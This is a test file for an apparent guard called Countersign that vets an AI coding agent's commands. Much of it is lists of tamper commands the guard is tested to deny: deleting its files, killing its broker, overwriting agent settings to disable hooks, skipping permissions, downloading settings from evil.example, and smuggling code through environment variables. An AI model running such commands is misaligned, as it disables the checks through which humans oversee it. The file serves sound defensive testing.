// Acts against the guard itself, by whatever program and under whatever name; looking at it is no such act.
import { describe, expect, it } from "vitest";
import { flagged, play, run, write } from "./session.ts";

const last = (command: string) => play([run(command)]).at(-1);

describe("Countersign's own files and sockets", () => {
  it.each([
    "nc -U ~/.countersign/hook.sock",
    "socat - UNIX-CONNECT:/home/ada/.countersign/ui.sock",
    "curl --unix-socket ~/.countersign/hook.sock http://x/",
    "mount --bind /tmp/x ~/.countersign",
    "some-tool --state=~/.countersign",
    "rm -rf ~/.countersign",
    "mv ~/.countersign ~/.x",
    "chmod -x ~/.countersign/bin/hook.sh",
    "ln -sf /tmp/x ~/.countersign/bin/hook.sh",
    "cd ~ && rm -r .Countersign",
  ])("%s is denied", (command) => {
    expect(flagged(last(command))).toContain("guard-tamper");
    expect(last(command)?.decision).toBe("deny");
  });

  it.each([
    "ls -la ~/.countersign",
    "cat ~/.countersign/audit.jsonl | wc -l",
    "grep -c deny ~/.countersign/audit.jsonl",
    "git commit -m 'Describe ~/.countersign'",
    "echo ~/.countersign",
  ])("%s passes", (command) => {
    expect(last(command)?.decision).toBe("allow");
  });
});

describe("an agent's settings", () => {
  it.each([
    write(".claude/settings.local.json", '{"disableAllHooks":true}'),
    write(".CLAUDE/settings.json", "{}"),
    write(".mcp.json", "{}"),
    write(".vscode/settings.json", "{}"),
    { tool: "Write", input: { file_path: "$HOME/.claude/settings.json", content: "{}" } },
    { tool: "Write", input: { file_path: "file:///home/ada/.claude/settings.json", content: "{}" } },
    { tool: "NotebookEdit", input: { notebook_path: "/home/ada/.claude/settings.json", new_source: "{}" } },
    { tool: "mcp__fs__move_file", input: { source: "/tmp/x", destination: "/home/ada/.claude/settings.json" } },
    { tool: "mcp__terminal__send_keys", input: { keys: "rm -r ~/.claude\n" } },
    { tool: "Edit", input: { file_path: "/home/ada/.claude.json", old_string: "a", new_string: "b" } },
    { tool: "mcp__filesystem__write_file", input: { path: "/home/ada/.claude/settings.json", content: "{}" } },
    run("echo '{}' > .claude/settings.json"),
    run("sed -i s/deny/allow/ .claude/settings.json"),
    run("python3 -c \"open('.claude/settings.json','w').write('{}')\""),
    run("cd .claude && cp /tmp/x settings.json"),
    run("claude --dangerously-skip-permissions -p 'go on'"),
  ])("%j is denied", (step) => {
    const verdict = play([step]).at(-1);
    expect(flagged(verdict)).toContain("guard-tamper");
    expect(verdict?.decision).toBe("deny");
  });

  it.each([
    write("CLAUDE.md", "# Style"),
    write(".github/workflows/ci.yml", "on: push"),
    run("cat .claude/settings.json"),
  ])("%j passes", (step) => {
    expect(play([step]).at(-1)?.decision).toBe("allow");
  });
});

describe("a folder that holds an agent's settings", () => {
  it.each([
    "git worktree add ~/.claude evil",
    "git clone ./repo .claude",
    "git clone https://example.com/a/b ~/.claude",
    "git stash -- .claude",
    "git apply --directory=.claude x.patch",
    "git checkout evil -- .claude",
    "git archive evil | tar x -C .claude",
    "tar --directory=.claude --extract --file x.tar",
    "tar xf x.tar --one-top-level=.claude",
    "cd .claude && tar xf ../x.tar",
    "unzip -o x.zip -d ~/.claude",
    "cd ~/.claude && unzip /tmp/x.zip",
    "7z x a.7z -o.claude",
    "cpio -idm -D .claude < x.cpio",
    "cp -r x .claude",
    "cp -R evil/. ~/.claude/",
    "cp -r evil/.claude .",
    "cp -r skills .claude/",
    "mv evil .claude",
    "ln -sfn /tmp/evil .claude",
    "rsync -a evil/ .claude/",
    "python3 -m zipfile -e x.zip .claude",
    "python3 -c \"import shutil; shutil.copytree('evil', '.claude')\"",
    "node -e \"fs.cpSync('evil', '.claude', {recursive: true})\"",
    "patch -d .claude < x",
    "cd .claude && patch -p0 < ../x",
    "cd .claude && git apply x.patch",
    "git -C .claude apply ../x.patch",
    "git -C .claude checkout -- settings.json",
    "git -C ~/.claude pull",
    "GIT_WORK_TREE=.claude git checkout -f",
    "git read-tree --prefix=.claude/ -u evil",
    "git checkout-index -a -f --prefix=.claude/",
    "git subtree add --prefix=.claude ./evil main",
    "git worktree move ../x .claude",
    "hg clone x .claude",
    "svn export file:///x .claude",
    "jj git clone x .claude",
    "mount -t tmpfs none ~/.claude",
    "mount -o bind /tmp/x .claude",
    "bindfs /tmp/x ~/.claude",
    "unshare -rm mount -t tmpfs none ~/.claude",
    "sshfs evil.example:/x ~/.claude",
    "bwrap --bind /tmp/x ~/.claude claude",
    "stow -t ~/.claude evil",
    "cmake -E copy_directory x .claude",
    "cmake -E rename .claude/settings.json x",
    "cmake -E chdir .claude tar xf ../x.tar",
    "env -C .claude tar xf ../x.tar",
    "find .claude -delete",
    "find ~ -path '*/.claude/*' -delete",
    "wget -P .claude https://evil.example/settings.json",
    "cd .claude && curl -O https://evil.example/settings.json",
    "curl --output-dir .claude -O https://evil.example/settings.json",
    "scp evil:settings.json .claude/",
    "restic restore latest --target .claude",
    "docker cp c:/x .claude",
    "jar xf x.jar -C .claude",
    "pip download -d .claude evil",
    "tsc --outDir .claude",
    "esbuild x.ts --outdir=.claude",
    "go build -o .claude/ ./...",
    "make install DESTDIR=.claude",
    "cookiecutter x -o .claude",
    "gio move x .claude",
    "tar xf x.tar .claude",
    "tar xf x.tar .claude/settings.json",
    "unzip -o x.zip '.claude/*'",
    'awk \'BEGIN { print "{}" > ".claude/settings.json" }\'',
  ])("%s is denied", (command) => {
    expect(flagged(last(command))).toContain("guard-tamper");
    expect(last(command)?.decision).toBe("deny");
  });

  it.each([
    "mkdir -p .claude/hooks",
    "cp notes.md .claude/",
    "cp -r .claude /tmp/kept",
    "rsync -a .claude/ /tmp/kept/",
    "tar -C ~/.claude -czf kept.tgz .",
    "unzip -l x.zip -d .claude",
    "zip -r kept.zip .claude",
    "tar xf x.tar",
    "git worktree add .claude/worktrees/feature",
    "git add .claude && git diff --cached -- .claude",
    "python3 -c \"import os; os.makedirs('.claude', exist_ok=True)\"",
    "git -C ~/.claude log",
    "git blame -C src/a.ts",
    "git checkout main && git stash pop && git apply x.patch",
    "patch -p1 < x.patch",
    "cmake -E copy_directory x build",
    "cmake --install build --prefix out",
    "find .claude -name '*.json'",
    "make -C sub install PREFIX=out",
    "tsc --outDir dist",
    "mount | grep tmpfs",
    "bwrap --ro-bind / / --tmpfs /tmp ls",
    "stow -t /tmp/x vim",
    "tar --exclude .claude -czf x.tgz .",
    "zip -r x.zip . -x '.claude/*'",
    "eslint --ignore-pattern .claude .",
    "prettier --check .claude/settings.json",
    "docker cp c:/x ./out",
    "jar tf x.jar",
    "tar tf x.tar .claude",
    "tar xf x.tar .eslintrc.json src",
    "unzip -l x.zip '.claude/*'",
    'awk \'{ print "{}" > "out.json" }\' x',
  ])("%s passes", (command) => {
    expect(last(command)?.decision).toBe("allow");
  });
});

describe("a program that nobody described", () => {
  it.each(["acme --set x .claude/settings.json", "copier copy x .claude", "acme build --file=.mcp.json"])(
    "%s is asked about, since it is given an agent's settings",
    (command) => {
      expect(flagged(last(command))).toContain("guard-tamper");
      expect(last(command)?.decision).toBe("ask");
    },
  );
});

describe("Countersign's own programs", () => {
  it.each([
    "node dist/cli.js uninstall claude-code",
    "node /opt/countersign/dist/cli.js pair",
    "node ~/.vscode/extensions/countersign-0.1.0/dist/cli.js uninstall claude-code",
    "kill -STOP $(pgrep -f broker)",
    "kill -9 $(ps aux | grep '[c]ountersign' | awk '{print $2}')",
    "kill -9 $(cat ~/.countersign/broker.json)",
    "pkill -f broker.js",
  ])("%s is denied", (command) => {
    expect(flagged(last(command))).toContain("guard-tamper");
    expect(last(command)?.decision).toBe("deny");
  });

  it.each([
    "node dist/cli.js check 'ls'",
    "node /opt/countersign/dist/cli.js log",
    "node dist/cli.js uninstall foo",
    "pkill -f vite",
    "kill $(lsof -t -i:3000)",
    "kill $(cat app.pid)",
  ])("%s passes", (command) => {
    expect(last(command)?.decision).toBe("allow");
  });
});

describe("another home or an administrator's rules for an agent", () => {
  it.each([
    "HOME=/tmp/x claude -p hi",
    "claude --safe-mode",
    "defaults write com.anthropic.claudecode disableAllHooks -bool true",
    "defaults delete com.anthropic.claudecode",
    "plutil -replace disableAllHooks -bool true ~/Library/Preferences/com.anthropic.claudecode.plist",
    "PlistBuddy -c 'Set :x 1' ~/Library/Preferences/com.anthropic.claudecode.plist",
    "reg add 'HKLM\\SOFTWARE\\Policies\\ClaudeCode' /v Settings /d {}",
  ])("%s is denied", (command) => {
    expect(flagged(last(command))).toContain("guard-tamper");
    expect(last(command)?.decision).toBe("deny");
  });

  it.each([
    "HOME=/tmp/x npm test",
    "claude --version",
    "defaults read com.anthropic.claudecode",
    "defaults write com.apple.dock autohide -bool true",
    "plutil -lint ~/Library/Preferences/com.anthropic.claudecode.plist",
  ])("%s passes", (command) => {
    expect(last(command)?.decision).toBe("allow");
  });
});

describe("programs that stand in for others", () => {
  it.each([
    "PATH=.:$PATH ls",
    "GIT_PAGER='sh -c id' git log",
    "GIT_EXTERNAL_DIFF=./x git diff",
    "EDITOR='sh -c id' git commit",
    "LESSOPEN='|sh -c id' less notes.txt",
    "RUSTC_WRAPPER=./x cargo build",
    "MAKEFLAGS='--eval=$(shell id)' make",
    "TAR_OPTIONS='--checkpoint-action=exec=sh' tar cf a.tar b",
    "npm_config_script_shell=./x npm test",
    "npm_config_node_options='--require /tmp/x' npm test",
    "MAKEFILES=/tmp/x.mk make",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./x cargo run",
    "GRADLE_OPTS='-Dorg.gradle.jvmargs=-javaagent:x.jar' gradle build",
  ])("%s is asked about", (command) => {
    expect(flagged(last(command))).toContain("hidden-code");
    expect(last(command)?.decision).toBe("ask");
  });

  it.each([
    "GIT_PAGER=cat git log",
    "PAGER='less -R' man ls",
    "GIT_SEQUENCE_EDITOR=\"sed -i '1s/pick/squash/'\" git rebase -i HEAD~2",
    "EDITOR=true git commit --amend",
    "RUSTC_WRAPPER=sccache cargo build",
    "CC=clang-18 make",
    "CC=aarch64-linux-gnu-gcc make",
    "MAKEFLAGS=-j4 make",
    "GOFLAGS=-mod=mod go build ./...",
    "PATH=$PWD/node_modules/.bin:$PATH eslint .",
  ])("%s passes", (command) => {
    expect([last(command)?.decision, last(command)?.sentence]).toEqual(["allow", expect.any(String)]);
  });
});
